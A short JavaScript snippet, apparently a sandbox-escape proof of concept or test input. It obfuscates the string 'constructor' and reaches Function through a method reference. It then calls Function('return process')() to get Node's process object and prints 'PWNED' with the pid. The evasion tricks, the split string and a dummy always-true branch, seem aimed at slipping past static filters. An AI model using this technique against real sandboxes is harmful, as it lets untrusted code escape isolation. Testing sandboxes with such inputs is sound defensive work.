'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
const o = Date.now() > 1 ? Object.entries({ a: t })[0][1] : {};
console.log('PWNED', o.go(fn)('return process')().pid);
